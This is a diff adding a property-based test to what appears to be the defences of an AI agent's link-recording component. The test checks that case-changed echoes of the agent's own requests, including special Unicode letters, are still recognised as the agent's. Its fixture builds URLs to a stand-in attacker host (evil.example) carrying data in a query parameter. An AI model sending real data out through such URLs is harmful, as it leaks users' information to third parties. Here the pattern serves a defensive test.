@@ -146,6 +146,20 @@ t.test('a URL spelled in a form the URL parser rewrites is still recognized as t
   }), { numRuns, ...seed });
 });
 
+// Letters whose case mapping is not one to one: a server that upper-cases its echo turns `ß` into
+// `SS` and `ᾀ` into `ἈΙ`, one that lower-cases it `ẞ` into `ß`; compared lower-cased only, the echo
+// gained letters the request lacked.
+t.test('an echo upper- or lower-cased is the agent\'s whatever letters it holds (property)', async () => {
+  const served = 'https://blog.example/posts/2024/airlock-review';
+  const special = fc.array(fc.constantFrom('ß', 'ẞ', 'ᾀ', 'ῳ', 'ŉ', 'ﬁ', 'İ', 'ς', 'ǰ', 'a', 'Z', '7'), { minLength: 1, maxLength: 6 }).map((a) => a.join(''));
+  fc.assert(fc.property(word, special, word, fc.constantFrom<Placement>('query', 'header', 'json-body', 'form-body'), fc.constantFrom('upper', 'lower'), fc.constantFrom<LinkFormat>('html', 'json', 'text'), (host, data, tail, where, how, format) => {
+    const url = `https://${host}.evil.example/?d=${data}${tail}`;
+    const echo = how === 'upper' ? url.toUpperCase().replace(/^HTTPS:\/\/[^/]+/, (h) => h.toLowerCase()) : url.toLowerCase();
+    const links = recorded(requestWith(url, where), format, answerWith(echo, format, served));
+    return links.includes(served) && !links.some((l) => new URL(l).hostname.endsWith('evil.example'));
+  }), { numRuns, ...seed });
+});
+
 // XML and entities left in links: a feed escapes `&` as `&amp;` (read as text, the link kept it, so
 // the echo's letters gained "amp"), and Atom's HTML content (or a page's template) escapes twice.
 t.test('an echo escaped for XML, or escaped twice, is still the agent\'s; a feed\'s own links read unescaped (property)', async () => {
